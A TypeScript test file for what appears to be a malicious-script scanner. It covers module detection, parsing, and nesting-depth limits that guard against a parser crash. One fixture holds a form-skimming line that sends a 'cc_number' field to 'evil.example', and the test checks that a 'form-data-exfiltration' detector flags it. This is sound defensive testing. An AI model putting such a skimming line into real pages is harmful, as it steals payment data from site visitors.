import { test } from 'node:test';
import assert from 'node:assert/strict';
import { inspectSource } from '../../src/analyze/pipeline.ts';
import { looksLikeModule, MAX_NESTING, nestingDepth, parseScript } from '../../src/analyze/parse.ts';

test('module syntax is recognised where a statement starts, and not inside names or expressions', () => {
  const modules = ['import x from "y";', 'a();\nexport { b };', 'f()}export*from"z"', 'var a=1;\t import{b}from"c"', 'console.log(import.meta.url)', "import'side-effect'"];
  const scripts = ['var important = 1;', 'reexport(1)', 'x.import = 2', 'import("lazy").then(run)', 'a.exports = b', 'import.metadata', 'myimport.meta'];
  for (const code of modules) assert.equal(looksLikeModule(code), true, code);
  for (const code of scripts) assert.equal(looksLikeModule(code), false, code);
});

test('a wrong guess costs only a second parse: both kinds of file parse strictly', () => {
  assert.equal(parseScript('var important = 1; with (o) { x = 010; }').strict, true);
  assert.equal(parseScript('let important = 1; export { important };').strict, true);
});

test('bracket nesting is measured outside strings and comments, through template substitutions', () => {
  const cases: [string, number][] = [
    ['((((', 4],
    ['a("(", `x${f(`${1}`)}`)', 4],
    ['`${`${`${1}`}`}`', 3],
    ['// ((((\n(/* [[[ */)', 1],
    ["'(((' + \"[[[\"", 0],
    ['f(a)(b)[c]{d}', 1],
  ];
  for (const [code, depth] of cases) assert.equal(nestingDepth(code, 100), depth, code);
});

test('a script nested deeper than the native parser survives is refused before parsing', () => {
  // deeply nested template literals crash the native parser (a segmentation fault, not an exception)
  const templates = 'x=' + '`${'.repeat(MAX_NESTING + 1) + '1' + '}`'.repeat(MAX_NESTING + 1);
  assert.throws(() => parseScript(templates), (error: unknown) => (error as { code?: string }).code === 'SG_TOO_LARGE');
  const functions = 'function f(){'.repeat(MAX_NESTING + 1) + '}'.repeat(MAX_NESTING + 1);
  assert.throws(() => parseScript(functions), (error: unknown) => (error as { code?: string }).code === 'SG_TOO_LARGE');
  assert.equal(parseScript('x=' + '['.repeat(200) + ']'.repeat(200)).strict, true);
});

test('a decoded payload nested too deeply is skipped, and the script around it is still analysed', () => {
  const deep = 'x=' + '['.repeat(MAX_NESTING + 1) + ']'.repeat(MAX_NESTING + 1);
  const result = inspectSource(`eval(${JSON.stringify(deep)}); fetch("https://evil.example/c?d=" + document.getElementById("cc_number").value);`);
  assert.equal(result.truncated, true);
  assert.ok(result.findings.some((finding) => finding.detector === 'form-data-exfiltration'));
});
